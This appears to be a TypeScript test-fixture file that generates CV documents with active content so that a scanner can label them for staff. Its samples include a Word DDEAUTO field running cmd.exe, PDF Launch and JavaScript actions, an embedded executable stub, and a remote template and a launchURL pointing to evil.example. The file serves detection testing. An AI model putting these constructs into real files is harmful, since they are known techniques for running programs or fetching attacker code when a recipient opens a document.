import type { ActiveContent } from '../cv-content.ts'
import { doc, wordStream } from './ole-files.ts'
import { pdf, pdfObjects } from './pdf-files.ts'
import { contentTypes, docx, mainDocument, type ZipMember } from './zip-files.ts'

const macros = doc({ embedded: { _VBA_PROJECT: Buffer.alloc(5000) } })
const relationship = (type: string, target: string, mode = 'External'): ZipMember => ({
  name: 'word/_rels/document.xml.rels',
  data: `<Relationships><Relationship Id="r" TargetMode="${mode}" Target="${target}"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
})
const body = (xml: string): ZipMember => ({
  name: 'word/document.xml',
  data: `${mainDocument().data}`.replace('<w:p>', `<w:p>${xml}`),
})
/** A PDF whose catalog has these entries, and these objects behind its own. */
const catalog = (entries: string, ...objects: string[]) =>
  pdf({ objects: [`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...pdfObjects.slice(1), ...objects] })

/** CVs that hold more than words and pictures, each with what staff are told about it. */
export const activeFiles: Record<string, [ActiveContent[], () => Buffer]> = {
  'a Word document with macros by its type': [
    ['macros'],
    () => docx([contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml')]),
  ],
  'a Word document with macros by a relationship': [
    ['macros'],
    () => docx([relationship('vbaProject', 'a.bin', 'Internal')]),
  ],
  'a Word document with macros under another name': [
    ['macros'],
    () => docx([{ name: 'word/media/1.png', data: macros }]),
  ],
  'a Word document whose template is elsewhere': [
    ['template'],
    () => docx([relationship('attachedTemplate', 'https://evil.example/a.dotm')]),
  ],
  'a Word document with a picture from elsewhere': [
    ['links'],
    () => docx([relationship('image', 'https://evil.example/a.png')]),
  ],
  'a Word document with a link to click on': [
    [],
    () => docx([relationship('hyperlink', 'https://ann.example')]),
  ],
  'a Word document with a field that starts a program': [
    ['dde'],
    () =>
      docx([
        body(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>' +
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r>',
        ),
      ]),
  ],
  'a Word document with an object of another program': [
    ['objects'],
    () => docx([relationship('oleObject', 'embeddings/1.bin', 'Internal')]),
  ],
  'a Word 97 document with macros': [['macros'], () => macros],
  'a Word 97 document with an object of another program': [
    ['objects'],
    () => doc({ embedded: { '\x01Ole10Native': Buffer.alloc(5000) } }),
  ],
  'a Word 97 document with a field that starts a program': [
    ['dde'],
    () => doc({ streams: { WordDocument: wordStream({ text: 'A\x13 DDEAUTO cmd\x14x\x15' }) } }),
  ],
  'a Word 97 document with a picture from elsewhere': [
    ['links'],
    () =>
      doc({ streams: { WordDocument: wordStream({ text: '\x13INCLUDEPICTURE "http://a.example"\x15' }) } }),
  ],
  'a PDF with JavaScript': [
    ['javascript'],
    () => catalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  ],
  'a PDF with JavaScript under a written-out name': [
    ['javascript'],
    () => catalog('/OpenAction << /S /Java#53cript /JS (app.alert\\(1\\)) >>'),
  ],
  'a PDF that starts a program': [['launch'], () => catalog('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  'a PDF with a file inside': [
    ['files'],
    () =>
      catalog(
        '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ),
  ],
}

/** A PDF that would ask for a password, start a program and open a file, if a viewer let it. */
export const hostilePdf = () =>
  catalog(
    '/OpenAction << /S /JavaScript /JS (app.response\\("Password?"\\); app.launchURL\\("https://evil.example"\\)) ' +
      '/Next << /S /Launch /F (cmd.exe) >> >> /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
    '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  )
